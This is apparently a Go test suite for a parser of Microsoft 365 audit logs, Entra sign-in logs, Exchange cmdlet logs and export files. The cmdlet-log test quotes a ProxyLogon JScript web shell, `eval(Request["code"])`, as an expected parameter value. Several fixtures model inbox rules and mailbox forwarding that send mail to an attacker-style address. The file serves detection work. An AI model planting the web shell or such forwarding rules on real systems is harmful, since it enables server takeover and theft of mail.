package m365

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/mailtrip/mailtrip/logfmt"
	"github.com/mailtrip/mailtrip/logfmt/internal/logtest"
	"github.com/mailtrip/mailtrip/logfmt/jsonlog"
)

func readAll(t testing.TB, data []byte, opt Options) ([]*Record, []error) {
	t.Helper()
	r := NewReader(bytes.NewReader(data), opt)
	var recs []*Record
	var errs []error
	for i := 0; i < len(data)+10; i++ {
		rec, err := r.Next()
		if err == io.EOF {
			return recs, errs
		}
		if err != nil {
			var pe *logfmt.ParseError
			if !errors.As(err, &pe) {
				t.Fatal(err)
			}
			errs = append(errs, err)
			continue
		}
		recs = append(recs, rec)
	}
	t.Fatal("no EOF")
	return nil, nil
}

func readOne(t *testing.T, elem ...string) *Record {
	t.Helper()
	recs, errs := readAll(t, logtest.Read(t, elem...), Options{})
	if len(recs) != 1 || len(errs) != 0 {
		t.Fatalf("%v: %d records, errors %v", elem, len(recs), errs)
	}
	return recs[0]
}

func TestSamples(t *testing.T) {
	tests := []struct {
		file                     string
		kind                     Kind
		op, user, ip, status, id string
		time                     string
		defects                  int
	}{
		{"ual-add-mailboxpermission.splunk-example.json", KindUAL, "Add-MailboxPermission", "pbareiss@rodsoto.onmicrosoft.com", "18.159.234.121", "True", "bb6e31a3-e98f-493d-bbff-08d8a0e2d2b0", "2020-12-15T10:18:53Z", 0},
		{"ual-mailitemsaccessed-bind.splunk-example.json", KindUAL, "MailItemsAccessed", "user15@splunkresearch.onmicrosoft.com", "120.1.121.35", "Succeeded", "9cef02e9-4bfa-4c73-be7d-9dad68b9cea8", "2024-02-01T16:07:34Z", 0},
		{"ual-modifyfolderpermissions.splunk-example.json", KindUAL, "ModifyFolderPermissions", "user1@contoso.onmicrosoft.com", "22.23.21.25", "Succeeded", "ff065c17-e638-4013-20ab-08dbafceeca1", "2023-09-07T18:19:07Z", 0},
		{"ual-set-mailbox.splunk-example.json", KindUAL, "Set-Mailbox", "pbareiss@rodsoto.onmicrosoft.com", "18.192.200.190", "True", "a6a52406-0912-448d-36eb-08d8a1bea6be", "2020-12-16T12:32:28Z", 0},
		{"ual-userloggedin.splunk-example.json", KindUAL, "UserLoggedIn", "user15@splunkresearch.onmicrosoft.com", "54.68.231.63", "Success", "52d72a62-132b-487b-bb7f-c4c119f90700", "2023-12-04T20:42:05Z", 0},
		// Splunk's sample has an impossible second (":65"): no time, a defect.
		{"ual-userloginfailed.splunk-example.json", KindUAL, "UserLoginFailed", "user30@contoso.onmicrosoft.com", "52.3.21.4", "Failed", "4593aac8-855f-4341-9d2a-4289146eb800", "", 1},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			r := readOne(t, "platform", "m365", tt.file)
			if r.Kind != tt.kind || r.Operation() != tt.op || r.UserID() != tt.user || r.ClientIP() != tt.ip || r.ResultStatus() != tt.status || r.ID() != tt.id {
				t.Errorf("got kind %v op %q user %q ip %q status %q id %q", r.Kind, r.Operation(), r.UserID(), r.ClientIP(), r.ResultStatus(), r.ID())
			}
			var want time.Time
			if tt.time != "" {
				want, _ = time.Parse(time.RFC3339, tt.time)
			}
			if !r.Time.Equal(want) || len(r.Defects) != tt.defects {
				t.Errorf("time %v defects %v", r.Time, r.Defects)
			}
		})
	}
}

func TestParametersKeptAndFlattened(t *testing.T) {
	r := readOne(t, "platform", "m365", "ual-add-mailboxpermission.splunk-example.json")
	orig, ok := r.Fields["Parameters"].([]any)
	if !ok || len(orig) != 4 || logfmt.Str(orig[2].(map[string]any), "Name") != "AccessRights" {
		t.Fatalf("Parameters not kept as the source list: %#v", r.Fields["Parameters"])
	}
	if p := r.Parameters(); p["AccessRights"] != "FullAccess" || p["User"] != "Patrick Bareiss" || len(p) != 4 {
		t.Errorf("Parameters_flat %v", p)
	}
	if r.Str("ClientIP") != "18.159.234.121:30395" || r.Str(KeyClientPort) != "30395" {
		t.Errorf("ClientIP changed or port lost: %q %q", r.Str("ClientIP"), r.Str(KeyClientPort))
	}
	// Set-Mailbox clearing ForwardingAddress: the parameter is there and
	// empty, and no address comes out of it.
	sm := readOne(t, "platform", "m365", "ual-set-mailbox.splunk-example.json")
	if v, ok := sm.Parameters()["ForwardingAddress"]; !ok || v != "" {
		t.Errorf("ForwardingAddress %v %v", v, ok)
	}
	if _, ok := sm.Fields[KeyForward]; ok || len(sm.ForwardAddresses()) != 0 {
		t.Errorf("forward addresses from an empty ForwardingAddress: %v", sm.Fields[KeyForward])
	}
	li := readOne(t, "platform", "m365", "ual-userloginfailed.splunk-example.json")
	if li.Str("ExtendedProperties_flat.RequestType") != "OAuth2:Token" || li.Str("DeviceProperties_flat.BrowserType") != "Chrome" {
		t.Errorf("ExtendedProperties_flat %v", li.Fields["ExtendedProperties_flat"])
	}
}

func TestMailItemsAccessed(t *testing.T) {
	r := readOne(t, "platform", "m365", "ual-mailitemsaccessed-bind.splunk-example.json")
	m, ok := r.MailAccess()
	if !ok {
		t.Fatal("no MailAccess view")
	}
	ids := m.MessageIDs()
	if m.AccessType != "Bind" || m.Throttled || m.OperationCount != 4 || len(m.Folders) != 1 || m.Folders[0].Path != `\Inbox` || len(ids) != 4 {
		t.Fatalf("MailAccess %+v", m)
	}
	if ids[0] != "<CAFpGju6Zzs6HoCNQsDh0=F=vS7KHikisdRrnC_avRsZhqK2iXQ@mail.mail.com>" || m.Folders[0].Items[3].SizeInBytes != 245068 {
		t.Errorf("items %+v", m.Folders[0].Items)
	}
	if m.AppID != "47629505-c2b6-4a80-adb1-9b3a3d233b7b" || !strings.Contains(m.ClientInfo, "python-requests") {
		t.Errorf("client %q %q", m.AppID, m.ClientInfo)
	}
	if _, ok := readOne(t, "platform", "m365", "ual-set-mailbox.splunk-example.json").MailAccess(); ok {
		t.Error("MailAccess on Set-Mailbox")
	}
}

func TestSignIn(t *testing.T) {
	r := readOne(t, "platform", "entra", "signinlogs-azure-monitor.splunk-example.json")
	if r.Kind != KindSignIn || r.UserID() != "user15@splunkresearch.onmicrosoft.com" || r.ClientIP() != "1.2.3.4" || r.ResultStatus() != "50076" || r.ID() != "22608a25-1d9b-44b5-b0f2-cb94f06b2d00" {
		t.Errorf("sign-in: user %q ip %q status %q id %q", r.UserID(), r.ClientIP(), r.ResultStatus(), r.ID())
	}
	if want := time.Date(2023, 10, 24, 20, 1, 11, 949038700, time.UTC); !r.Time.Equal(want) {
		t.Errorf("time %v", r.Time)
	}
	if r.Str("properties.authenticationProcessingDetails_flat.Legacy TLS (TLS 1.0, 1.1, 3DES)") != "False" {
		t.Errorf("authenticationProcessingDetails_flat missing")
	}
	// The Graph form is the envelope's properties, alone.
	props, _ := json.Marshal(r.Fields["properties"])
	g, errs := readAll(t, props, Options{})
	if len(g) != 1 || len(errs) != 0 || g[0].Kind != KindSignIn || g[0].UserID() != r.UserID() || g[0].ResultStatus() != "50076" || !g[0].Time.Equal(r.Time) || g[0].ClientIP() != "1.2.3.4" {
		t.Errorf("graph form: %+v %v", g, errs)
	}
}

func TestCmdletLog(t *testing.T) {
	recs, errs := readAll(t, logtest.Read(t, "exchange", "proxylogon_msexchange_management_extract.jsonl"), Options{})
	if len(recs) != 3 || len(errs) != 0 {
		t.Fatalf("%d records, %v", len(recs), errs)
	}
	want := []struct {
		cmdlet string
		params map[string]any
	}{
		{"Set-OabVirtualDirectory", map[string]any{
			"ExternalUrl": `http://ffff/#<script language="JScript" runat="server"> function Page_Load(){/**/eval(Request["code"],"unsafe");}</script>`,
			"Identity":    "OAB (Default Web Site)"}},
		{"Remove-OabVirtualDirectory", map[string]any{"Force": "True", "Identity": `MXS01\OAB (Default Web Site)`}},
		{"New-OabVirtualDirectory", map[string]any{"WebSiteName": "Default Web Site", "Server": "MXS01", "Role": "ClientAccess",
			"InternalUrl": "https://mxs01.azsentinel.local/OAB", "Path": `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB`}},
	}
	for i, r := range recs {
		if r.Kind != KindCmdletLog || r.Operation() != want[i].cmdlet || r.ResultStatus() != "Succeeded" || r.Line != i+1 {
			t.Errorf("record %d: kind %v op %q status %q line %d", i, r.Kind, r.Operation(), r.ResultStatus(), r.Line)
		}
		if !reflect.DeepEqual(r.Parameters(), want[i].params) {
			t.Errorf("record %d parameters\n got %q\nwant %q", i, r.Parameters(), want[i].params)
		}
	}
	if want := time.Date(2021, 3, 14, 1, 40, 12, 987000000, time.UTC); !recs[0].Time.Equal(want) {
		t.Errorf("time %v", recs[0].Time)
	}
}

// panther returns the "log" objects of the Panther test file.
func panther(t *testing.T) ([]*Record, []bool, []string) {
	var recs []*Record
	var expected []bool
	var names []string
	jr := jsonlog.NewReader(bytes.NewReader(logtest.Read(t, "panther", "microsoft_exchange_external_forwarding.tests.jsonl")), jsonlog.Options{})
	for {
		rec, err := jr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		recs = append(recs, Normalize(rec.Fields["log"].(map[string]any), rec.Origin))
		expected = append(expected, rec.Fields["expected"] == true)
		names = append(names, logfmt.Str(rec.Fields, "name"))
	}
	return recs, expected, names
}

func TestPantherLowerCase(t *testing.T) {
	recs, _, names := panther(t)
	if len(recs) == 0 {
		t.Fatal("no records")
	}
	for i, r := range recs {
		if r.Kind != KindUAL || r.Operation() == "" || r.UserID() == "" || r.ClientIP() != "1.2.3.4" || r.Time.IsZero() {
			t.Errorf("%s: kind %v op %q user %q ip %q time %v", names[i], r.Kind, r.Operation(), r.UserID(), r.ClientIP(), r.Time)
		}
		if _, ok := r.Fields["parameters_flat"]; !ok {
			t.Errorf("%s: no parameters_flat", names[i])
		}
		// Every forwarding parameter in the source yields its address.
		for _, p := range r.Fields["parameters"].([]any) {
			pm := p.(map[string]any)
			name := logfmt.Str(pm, "Name")
			if name != "ForwardingSmtpAddress" && name != "ForwardTo" {
				continue
			}
			got := r.ForwardAddresses()[name]
			n := strings.Count(logfmt.Str(pm, "Value"), "@")
			if len(got) != n || got[0].Addr == "" || strings.HasPrefix(got[0].Addr, "smtp:") {
				t.Errorf("%s: %s %q gave %+v", names[i], name, logfmt.Str(pm, "Value"), got)
			}
		}
	}
}

func TestAddresses(t *testing.T) {
	tests := []struct {
		in   string
		want []Address
	}{
		{`"Eve Evil" [SMTP:eve@evil.example]`, []Address{{Name: "Eve Evil", Addr: "eve@evil.example"}}},
		{`"Doe, John" [SMTP:j@x.example];"B" [SMTP:b@y.example]`, []Address{{Name: "Doe, John", Addr: "j@x.example"}, {Name: "B", Addr: "b@y.example"}}},
		{`smtp:peter.griffin@familyguy.com`, []Address{{Addr: "peter.griffin@familyguy.com"}}},
		{`external1@example.com;external2@example.com`, []Address{{Addr: "external1@example.com"}, {Addr: "external2@example.com"}}},
		{`Jane <jane@example.org>`, []Address{{Name: "Jane", Addr: "jane@example.org"}}},
		{`Bob [EX:/o=ExchangeLabs/ou=Exchange Administrative Group/cn=Recipients/cn=bob]`, []Address{{Name: "Bob"}}},
		{`System.Collections.ArrayList`, []Address{{Name: "System.Collections.ArrayList"}}},
		{``, nil},
	}
	for _, tt := range tests {
		got := ParseAddressList(tt.in)
		for i := range got {
			got[i].Raw = ""
		}
		if !reflect.DeepEqual(got, tt.want) {
			t.Errorf("%q: %+v, want %+v", tt.in, got, tt.want)
		}
	}
	if d := (Address{Addr: "x@Evil.Example"}).Domain(); d != "evil.example" {
		t.Error(d)
	}
}

func TestClientIPForms(t *testing.T) {
	for in, want := range map[string]string{
		"1.2.3.4": "1.2.3.4", "1.2.3.4:52816": "1.2.3.4", "[2001:db8::1]:443": "2001:db8::1",
		"2001:db8::1": "2001:db8::1", "::ffff:10.0.0.1": "10.0.0.1", "[2001:DB8::2]": "2001:db8::2",
	} {
		r := Normalize(map[string]any{"Operation": "X", "Workload": "Exchange", "ClientIP": in}, logfmt.Origin{})
		if r.ClientIP() != want {
			t.Errorf("%q -> %q, want %q", in, r.ClientIP(), want)
		}
	}
	r := Normalize(map[string]any{"Operation": "X", "Workload": "Exchange", "ClientIP": "not-an-ip"}, logfmt.Origin{})
	if r.ClientIP() != "" || len(r.Defects) != 1 {
		t.Errorf("bad ip: %q %v", r.ClientIP(), r.Defects)
	}
}

func TestUpdateInboxRulesShapes(t *testing.T) {
	// The two shapes of UpdateInboxRules, built from the real Set-Mailbox
	// sample's envelope so only the properties differ.
	base := func() map[string]any {
		var m map[string]any
		dec := json.NewDecoder(bytes.NewReader(logtest.Read(t, "platform", "m365", "ual-set-mailbox.splunk-example.json")))
		dec.UseNumber()
		_ = dec.Decode(&m)
		delete(m, "Parameters")
		m["Operation"] = "UpdateInboxRules"
		return m
	}
	props := base()
	props["OperationProperties"] = []any{
		map[string]any{"Name": "RuleName", "Value": "."},
		map[string]any{"Name": "RuleOperation", "Value": "AddMailboxRule"},
		map[string]any{"Name": "RuleActions", "Value": `[{"ActionType":"Forward","Recipients":["eve@evil.example"]},{"ActionType":"MoveToFolder","FolderName":"RSS Feeds"}]`},
	}
	params := base()
	params["Parameters"] = []any{
		map[string]any{"Name": "Name", "Value": "."},
		map[string]any{"Name": "ForwardTo", "Value": `"Eve" [SMTP:eve@evil.example]`},
		map[string]any{"Name": "MoveToFolder", "Value": "RSS Feeds"},
	}
	for name, m := range map[string]map[string]any{"OperationProperties": props, "Parameters": params} {
		r := Normalize(m, logfmt.Origin{})
		rule, ok := r.InboxRule()
		if !ok || rule.Name != "." || len(rule.Actions) != 2 {
			t.Fatalf("%s: %+v", name, rule)
		}
		var fw, mv *RuleAction
		for i := range rule.Actions {
			switch rule.Actions[i].Type {
			case "ForwardTo":
				fw = &rule.Actions[i]
			case "MoveToFolder":
				mv = &rule.Actions[i]
			}
		}
		if fw == nil || len(fw.Recipients) != 1 || fw.Recipients[0].Addr != "eve@evil.example" || mv == nil || mv.Folder != "RSS Feeds" {
			t.Errorf("%s: actions %+v", name, rule.Actions)
		}
		if got := r.ForwardAddresses()["ForwardTo"]; len(got) != 1 || got[0].Addr != "eve@evil.example" {
			t.Errorf("%s: Forward_addrs %v", name, r.Fields[KeyForward])
		}
	}
}

// csvOf writes rows as CSV with a header.
func csvOf(typeLine string, header []string, rows [][]string) []byte {
	var b bytes.Buffer
	if typeLine != "" {
		b.WriteString(typeLine + "\r\n")
	}
	w := csv.NewWriter(&b)
	w.UseCRLF = true
	_ = w.Write(header)
	_ = w.WriteAll(rows)
	return b.Bytes()
}

func TestPurviewExports(t *testing.T) {
	files := logtest.Glob(t, "platform/m365/*.json")
	var want []*Record
	var rowsOld, rowsNew [][]string
	for _, f := range files {
		b, _ := os.ReadFile(f)
		var c bytes.Buffer
		_ = json.Compact(&c, b)
		r := readOne(t, "platform", "m365", filepath.Base(f))
		want = append(want, r)
		rowsOld = append(rowsOld, []string{r.Str("CreationTime"), r.UserID(), r.Operation(), c.String()})
		rowsNew = append(rowsNew, []string{r.ID(), r.Str("CreationTime"), r.Str("RecordType"), r.Operation(), r.UserID(), c.String(), "", ""})
	}
	for name, data := range map[string][]byte{
		"classic": csvOf("", []string{"CreationDate", "UserIds", "Operations", "AuditData"}, rowsOld),
		"new":     csvOf("", []string{"RecordId", "CreationDate", "RecordType", "Operation", "UserId", "AuditData", "AssociatedAdminUnits", "AssociatedAdminUnitsNames"}, rowsNew),
	} {
		t.Run(name, func(t *testing.T) {
			if g := Sniff(data, "export.csv"); g.Format != "m365.ual" || g.Confidence < 90 {
				t.Errorf("Sniff %+v", g)
			}
			recs, errs := readAll(t, data, Options{})
			if len(recs) != len(want) || len(errs) != 0 {
				t.Fatalf("%d records, %v", len(recs), errs)
			}
			for i, r := range recs {
				w := want[i]
				if r.Kind != w.Kind || r.Operation() != w.Operation() || r.ClientIP() != w.ClientIP() || !r.Time.Equal(w.Time) || r.Line != i+2 {
					t.Errorf("row %d: %v %q %q %v line %d", i, r.Kind, r.Operation(), r.ClientIP(), r.Time, r.Line)
				}
				if !reflect.DeepEqual(r.Parameters(), w.Parameters()) {
					t.Errorf("row %d parameters differ", i)
				}
				if r.Str(PurviewCSVKey("CreationDate")) != w.Str("CreationTime") {
					t.Errorf("row %d: PurviewCSV %v", i, r.Fields[KeyPurviewCSV])
				}
			}
		})
	}
}

func TestExchangeExports(t *testing.T) {
	rules := csvOf("#TYPE Deserialized.Microsoft.Exchange.Data.Storage.Management.InboxRule",
		[]string{"Name", "Enabled", "MailboxOwnerId", "RuleIdentity", "ForwardTo", "RedirectTo", "DeleteMessage", "MoveToFolder", "StopProcessingRules", "SubjectContainsWords"},
		[][]string{
			{"..", "True", "Homer Simpson", "1234567890", `"Eve" [SMTP:eve@evil.example]`, "", "True", "", "True", "invoice;payment"},
			{"News", "True", "Homer Simpson", "1234567891", "", "", "False", "Newsletters", "False", "newsletter"},
		})
	recs, errs := readAll(t, rules, Options{})
	if len(recs) != 2 || len(errs) != 0 {
		t.Fatalf("%d %v", len(recs), errs)
	}
	r0, _ := recs[0].InboxRule()
	if recs[0].Kind != KindInboxRule || r0.Name != ".." || r0.Mailbox != "Homer Simpson" || len(recs[0].ForwardAddresses()["ForwardTo"]) != 1 || len(r0.Actions) != 3 {
		t.Errorf("rule 0: %v %+v", recs[0].Kind, r0)
	}
	r1, _ := recs[1].InboxRule()
	if len(r1.Actions) != 1 || r1.Actions[0].Folder != "Newsletters" {
		t.Errorf("rule 1: %+v", r1)
	}
	if g := Sniff(rules, "rules.csv"); g.Format != "m365.inboxrule" {
		t.Errorf("sniff %+v", g)
	}
	mbx := csvOf("#TYPE Deserialized.Microsoft.Exchange.Data.Directory.Management.Mailbox",
		[]string{"UserPrincipalName", "PrimarySmtpAddress", "ForwardingAddress", "ForwardingSmtpAddress", "DeliverToMailboxAndForward"},
		[][]string{{"bart@simpsons.example", "bart@simpsons.example", "", "smtp:bart@gmail.example", "False"}})
	recs, _ = readAll(t, mbx, Options{})
	if len(recs) != 1 || recs[0].Kind != KindMailbox || recs[0].UserID() != "bart@simpsons.example" || recs[0].ForwardAddresses()["ForwardingSmtpAddress"][0].Addr != "bart@gmail.example" {
		t.Errorf("mailbox export: %+v", recs)
	}
}

func TestSniff(t *testing.T) {
	tests := []struct{ file, want string }{
		{"platform/m365/ual-set-mailbox.splunk-example.json", "m365.ual"},
		{"platform/entra/signinlogs-azure-monitor.splunk-example.json", "m365.signin"},
		{"exchange/proxylogon_msexchange_management_extract.jsonl", "m365.cmdletlog"},
		{"platform/gws/reports-login-failure.splunk-example.json", ""},
		{"platform/iis/iis-w3c-default-fields-sample.log", ""},
	}
	for _, tt := range tests {
		if g := Sniff(logtest.Read(t, tt.file), tt.file); g.Format != tt.want {
			t.Errorf("%s: %+v", tt.file, g)
		}
	}
}
